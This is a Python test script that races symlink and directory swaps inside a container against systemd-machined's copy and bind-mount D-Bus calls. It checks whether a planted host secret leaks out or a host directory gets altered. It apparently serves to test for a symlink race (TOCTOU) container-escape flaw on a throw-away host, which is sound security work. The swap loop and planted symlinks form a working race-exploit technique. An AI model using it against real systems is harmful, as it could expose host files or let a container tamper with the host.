#!/usr/bin/python3
"""flip.py MACHINE SWAPS: a container swaps files and directories for links while files are copied both ways.

Ends after SWAPS exchanges. Prints what leaked, or "nothing leaked". Run as root on a throw-away host.
"""
import os, subprocess, sys, dbus

machine, wanted = sys.argv[1], int(sys.argv[2])
leader = int(subprocess.run(["machinectl", "show", "-p", "Leader", "--value", machine], capture_output=True, text=True).stdout)
root = f"/proc/{leader}/root"
SECRET, OUTSIDE = "SECRET-OF-THE-HOST", "/srv/outside"
sh = lambda script: subprocess.run(script, shell=True, check=True)
sh(f"""rm -rf {OUTSIDE} /tmp/victim /tmp/planted {root}/root/flip; mkdir -p {OUTSIDE}/b /tmp/victim /tmp/planted/b
echo {SECRET} >{OUTSIDE}/secret; cp {OUTSIDE}/secret {OUTSIDE}/b/secret; chmod -R go= {OUTSIDE}
cd {root}/root; mkdir -p flip/a/b flip/x/b; echo inside | tee flip/a/f flip/a/b/secret flip/x/f flip/x/b/secret >/dev/null
ln -s {OUTSIDE}/b flip/out; ln -s ../../../../../../../../..{OUTSIDE}/b flip/up; ln -s {OUTSIDE}/secret flip/file
ln -s /proc/1/root{OUTSIDE}/b flip/proc
cd /tmp/planted; echo x >f; echo x >b/planted; mkfifo -m 666 b/fifo; ln f b/hard""")
SWAP = """
import ctypes, os, sys
os.chdir(sys.argv[1])
libc = ctypes.CDLL(None)
swap = lambda a, b: libc.renameat2(-100, a, -100, b, 2)
swaps = 0
while True:
    for other in (b"out", b"up", b"proc", b"x/b"):
        swap(b"a/b", other); swap(b"a/b", other)
    swap(b"a/f", b"file"); swap(b"a/f", b"file")
    for other in (b"out", b"x"):
        swap(b"a", other); swap(b"a", other)
    swaps += 14
    if swaps % 1400 == 0:
        os.pwrite(1, b"%20d" % swaps, 0)
"""
describe = lambda: subprocess.run(["find", OUTSIDE, "-printf", "%p %m %U %s %T@ %C@\n"], capture_output=True).stdout
before = describe()
counter = open("/tmp/flip-count", "w+")
swapper = subprocess.Popen([sys.executable, "-c", SWAP, f"{root}/root/flip"], stdout=counter)
swaps = lambda: int(os.pread(counter.fileno(), 20, 0) or 0)
manager = dbus.Interface(dbus.SystemBus().get_object("org.freedesktop.machine1", "/org/freedesktop/machine1",
                         introspect=False), "org.freedesktop.machine1.Manager")
REPLACE, done = dbus.UInt64(1), 0
i = 0
while swaps() < wanted or i < 20:
    i += 1
    for call in (lambda: manager.CopyFromMachine(machine, "/root/flip/a", f"/tmp/victim/{i}"),
                 lambda: manager.CopyFromMachine(machine, "/root/flip/a/b/secret", f"/tmp/victim/s{i}"),
                 lambda: manager.CopyFromMachine(machine, "/root/flip/a/f", f"/tmp/victim/f{i}"),
                 lambda: manager.CopyToMachineWithFlags(machine, "/tmp/planted", "/root/flip/a", REPLACE),
                 lambda: manager.CopyToMachineWithFlags(machine, "/tmp/planted/f", f"/root/flip/a/b/p{i}", REPLACE),
                 lambda: i % 10 or manager.BindMountMachine(machine, "/tmp/planted", f"/root/flip/a/b/m{i}", False, True)):
        try:
            call()
            done += 1
        except dbus.DBusException:
            pass  # what it is just then may be anything
swapper.kill()
leaked = subprocess.run(["grep", "-rl", SECRET, "/tmp/victim"], capture_output=True, text=True).stdout
if describe() != before:
    leaked += f"{OUTSIDE} was changed"
print(leaked or f"nothing leaked, {done} of {6 * i} calls succeeded during {swaps()} swaps")
